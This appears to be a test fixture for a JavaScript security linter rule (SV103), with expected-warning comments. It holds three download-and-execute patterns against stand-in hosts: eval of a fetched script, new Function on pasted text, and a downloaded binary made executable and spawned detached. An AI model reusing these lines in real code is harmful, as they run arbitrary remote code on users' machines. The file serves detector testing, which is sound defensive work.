const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

async function one() {
  const r = await fetch('https://198.51.100.7/s2.js');
  eval(await r.text());                                          // want "SV103: eval.. runs code downloaded"
}

https.get('https://paste.example.org/raw/abc', (res) => {
  let src = '';
  res.on('data', (d) => (src += d));
  res.on('end', () => new Function(src)());                      // want "SV103: Function.. runs code downloaded"
});

const dest = path.join(os.tmpdir(), 'updater');
https.get('https://cdn.example.net/bin/updater', (res) => {
  res.pipe(fs.createWriteStream(dest)).on('finish', () => {
    fs.chmodSync(dest, 0o755);                                   // want "SV103: makes a downloaded file executable"
    spawn(dest, [], { detached: true, stdio: 'ignore' }).unref(); // want "SV103: runs a downloaded file"
  });
});
one();
